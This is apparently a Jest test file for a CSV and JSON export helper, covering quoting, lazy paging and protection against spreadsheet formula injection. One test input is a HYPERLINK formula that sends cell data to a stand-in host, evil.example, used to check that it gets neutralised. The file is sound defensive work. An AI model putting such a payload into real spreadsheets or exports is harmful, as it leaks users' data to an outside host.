import { CsvValue, csvLine, fileChunks } from './fileChunks';

describe('csvLine', () => {
  it.each<[string, CsvValue[], string]>([
    ['plain text', ['a', 'b c'], 'a,b c'],
    ['numbers', [1, 0, -2.5], '1,0,-2.5'],
    ['no value', ['a', undefined, ''], 'a,,'],
    ['a comma', ['a,b', 'c'], '"a,b",c'],
    ['quotes', ['the "best"'], '"the ""best"""'],
    ['lines', ['a\nb', 'c\r\nd'], '"a\nb","c\r\nd"'],
    ['letters of all languages', ['Größe', '成熟度'], 'Größe,成熟度'],
    ['a formula', ['=1+1'], "'=1+1"],
    ['a sum', ['+1'], "'+1"],
    ['a difference', ['-1'], "'-1"],
    ['a function', ['@SUM(A1)'], "'@SUM(A1)"],
    [
      'a full-width formula',
      ['＝1+1', '＋1', '－1', '＠SUM(A1)'],
      "'＝1+1,'＋1,'－1,'＠SUM(A1)",
    ],
    ['a formula after a space', [' =1', '\u200b=1'], "' =1,'\u200b=1"],
    ['a tab', ['\t=1'], "'\t=1"],
    ['a carriage return', ['\r=1'], `"'\r=1"`],
    ['a line feed', ['\n=1'], `"'\n=1"`],
    [
      'a link that takes data with it',
      ['=HYPERLINK("https://evil.example?"&A1,"x")'],
      `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`,
    ],
    ['a formula that is none', ['a=1', 'b-c'], 'a=1,b-c'],
  ])('writes %s', (_, values, expected) => {
    expect(csvLine(values)).toBe(`${expected}\r\n`);
  });
});

describe('fileChunks', () => {
  const columns = { names: ['id'], toValues: (id: string) => [id] };

  async function read(format: 'csv' | 'json', pages: string[][]) {
    const chunks = [];
    for await (const chunk of fileChunks(format, { pages, columns })) {
      chunks.push(chunk);
    }
    return chunks;
  }

  it('writes a header and one chunk for each page as CSV', async () => {
    expect(await read('csv', [['a', 'b'], ['=c']])).toEqual([
      'id\r\n',
      'a\r\nb\r\n',
      "'=c\r\n",
    ]);
  });

  it.each<[string, string[][]]>([
    ['no page', []],
    ['an empty page', [[]]],
    ['one item', [['a']]],
    ['empty pages between items', [['a'], [], ['b', 'c'], []]],
  ])('writes one valid list as JSON for %s', async (_, pages) => {
    const text = (await read('json', pages)).join('');
    expect(JSON.parse(text)).toEqual(pages.flat());
    expect(text.endsWith('\n')).toBe(true);
  });

  it('reads a page only when it is asked for', async () => {
    const asked: string[] = [];
    async function* readPages() {
      for (const id of ['a', 'b']) {
        asked.push(id);
        yield [id];
      }
    }
    const chunks = fileChunks('csv', { pages: readPages(), columns });
    const reader = chunks[Symbol.asyncIterator]();
    await reader.next();
    expect(asked).toEqual([]);
    await reader.next();
    expect(asked).toEqual(['a']);
  });

  it('fails with the error of a page', async () => {
    async function* readPages() {
      yield ['a'];
      throw new Error('The database is gone');
    }
    const chunks = fileChunks('json', { pages: readPages(), columns });
    const reader = chunks[Symbol.asyncIterator]();
    await reader.next();
    await expect(reader.next()).rejects.toThrow('The database is gone');
  });
});
